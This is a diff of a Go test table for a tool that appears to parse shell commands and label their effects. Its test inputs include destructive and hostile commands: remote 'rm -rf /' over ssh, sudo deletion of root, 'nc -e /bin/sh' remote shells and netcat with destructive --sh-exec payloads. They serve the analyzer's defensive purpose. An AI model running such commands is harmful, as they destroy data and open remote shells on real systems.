@@ -39,7 +39,7 @@ func TestConnections(t *testing.T) {
 		{`a key not known`, `ssh -o "$x" h`, `ssh -o=? host:h | sets ?, connects h`},
 		{`remote command`, `ssh u@h 'rm -rf / && ls' ; ssh h sudo rm -rf /`, "ssh host:u@h words:rm -rf / && ls | connects u@h {rm away --recursive --force delete:/ | deletes tree /} {ls away}\nssh host:h words:sudo words:rm words:-rf words:/ | connects h {sudo away argv:rm argv:-rf argv:/ | elevates {rm away --recursive --force delete:/ | deletes tree /}}"},
 		{`remote command not known`, `ssh h "rm $x"`, `ssh host:h words:rm ? | connects h, evaluates sh rm ?`},
-		{`remote home is not ours`, `ssh h 'rm -rf ~'`, `ssh host:h words:rm -rf ~ | connects h {rm open away --recursive --force delete:? | deletes tree ?}`},
+		{`remote home is not ours`, `ssh h 'rm -rf ~'`, `ssh host:h words:rm -rf ~ | connects h {rm away --recursive --force delete:/home/~ | deletes tree /home/~}`},
 		{`forwarding`, `ssh -L 8080:x:80 -R 1:y:2 -D 0.0.0.0:1080 -J j h`, `ssh -L=8080:x:80 -R=1:y:2 -D=0.0.0.0:1080 -J=j host:h | listens 8080:x:80, listens 0.0.0.0:1080, connects j, connects h`},
 		{`scp up and down`, `scp -r a b h:c; scp h:b .; scp -P 2 ./a:b u@h:`, "scp -r remote:a remote:b remote:h:c | reads+uploads a, reads+uploads b, connects h:c\nscp remote:h:b remote:. | connects h:b, writes .\nscp -P=2 remote:./a:b remote:u@h: | reads+uploads ./a:b, connects u@h:"},
 		{`B20 -e`, `nc -e /bin/sh h 1; netcat -c 'rm -rf /' h 1; ncat --sh-exec 'rm x' -l 1`, "nc --exec=/bin/sh host:h plain:1 | connects h {sh | runs /bin/sh, evaluates sh ??}\nnc --sh-exec=rm -rf / host:h plain:1 | connects h {rm --recursive --force delete:/ | deletes tree /}\nncat --sh-exec=rm x --listen listen:1 | listens, listens 1 {rm delete:x | deletes x}"},
